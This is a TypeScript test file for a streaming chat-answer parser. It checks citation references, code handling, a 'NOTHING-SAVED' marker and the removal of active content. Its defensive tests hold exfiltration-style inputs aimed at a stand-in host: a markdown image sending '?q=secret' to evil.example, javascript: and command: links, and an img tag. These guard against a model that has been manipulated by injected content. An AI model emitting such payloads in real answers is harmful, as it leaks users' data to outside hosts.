import assert from "node:assert/strict";
import fc from "fast-check";
import { AnswerReader } from "../../../src/core/chat/answer.ts";
import type { AnswerPart } from "../../../src/core/chat/answer.ts";
import { activeParts } from "../../fakes/rendered.ts";

/** Parts as text, references as `<n>`. Pieces of text beside each other are one. */
function read(pieces: readonly string[], facts = 3): string {
  const reader = new AnswerReader(facts);
  return [...pieces.flatMap((piece) => reader.push(piece)), ...reader.end()].map(shown).join("");
}

function shown(part: AnswerPart): string {
  switch (part.kind) {
    case "text":
      return part.text;
    case "reference":
      return `<${part.number}>`;
    case "uncovered":
      return "<uncovered>";
  }
}

describe("reading a chat answer", () => {
  it("turns the numbers of facts into references", () => {
    assert.equal(read(["Three times [1]. Then it stops [2][3]."]), "Three times <1>. Then it stops <2><3>.");
    assert.equal(read(["Both say so [1, 3]."]), "Both say so <1><3>.");
  });

  it("finds a reference that arrives in pieces", () => {
    assert.equal(read(["Three times [", "1", "]", "."]), "Three times <1>.");
  });

  it("leaves numbers alone that are no fact's, or link text of the model", () => {
    assert.equal(read(["See [4] and [0] and [1](https://a.example)."]), "See [4] and [0] and [1](https://a.example).");
  });

  it("leaves code alone", () => {
    assert.equal(
      read(["Use `list[1]` [1]:\n```js\nlist[1];\n```\nDone [2]."]),
      "Use `list[1]` <1>:\n```js\nlist[1];\n```\nDone <2>.",
    );
    assert.equal(read(["~~~\na[1]\n~~~\n[1]"]), "~~~\na[1]\n~~~\n<1>");
  });

  it("takes pictures out, whose address could carry data away", () => {
    assert.equal(
      read(["Look: !", "[x](https://evil.example/?q=secret) Done!"]),
      "Look: [x](https://evil.example/?q=secret) Done!",
    );
  });

  it("hears that nothing saved answers the question", () => {
    assert.equal(read(["NOTHING", "-SAVED\nClosest is retries [1]."]), "<uncovered>Closest is retries <1>.");
    assert.equal(read(["**NOTHING-SAVED**\n\nClosest"]), "<uncovered>Closest");
    assert.equal(read(["NOTHING-SAVED"]), "<uncovered>");
    assert.equal(read(["NOTHING else"]), "NOTHING else");
  });

  it("loses nothing and reads the same however the answer is cut", () => {
    const piece = fc.constantFrom(
      "[1]",
      "[12]",
      "[1, 2]",
      "`",
      "```",
      "\n",
      "!",
      "![",
      "a",
      " ",
      "](x)",
      "NOTHING-SAVED",
      "~~~",
      "é",
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), fc.array(fc.nat(40), { maxLength: 6 }), (pieces, cuts) => {
        const text = pieces.join("");
        const places = [0, ...cuts.map((cut) => Math.min(cut, text.length)).sort((a, b) => a - b), text.length];
        const cut = places.slice(1).map((end, index) => text.slice(places[index], end));
        assert.equal(read(cut), read([text]));
      }),
    );
  });

  it("writes nothing active, whatever a model was talked into and however the answer is cut", () => {
    const piece = fc.constantFrom(
      ...["![a](https://evil.example/p)", "[a](command:x)", "[a](javascript:x)", "<img src=https://evil.example>", "<b", "`"],
      ...["```", "~~~", "\n", " ", "$", "|", "- ", "> ", "1. ", "\\", "[1]", "[", "]", "(", ")", "!", "https://a.example", "a b"],
    ); // prettier-ignore
    fc.assert(
      fc.property(fc.array(fc.tuple(piece, fc.boolean()), { maxLength: 20 }), (pieces) => {
        const cut: string[] = [""];
        for (const [text, isNew] of pieces) {
          if (isNew) cut.push(text);
          else cut.push(`${cut.pop() ?? ""}${text}`);
        }
        const answer = read(cut).replace(/<[12]>/gu, "");
        assert.deepEqual(activeParts(answer), [], JSON.stringify({ cut, answer }));
      }),
      { numRuns: 500 },
    );
  });
});
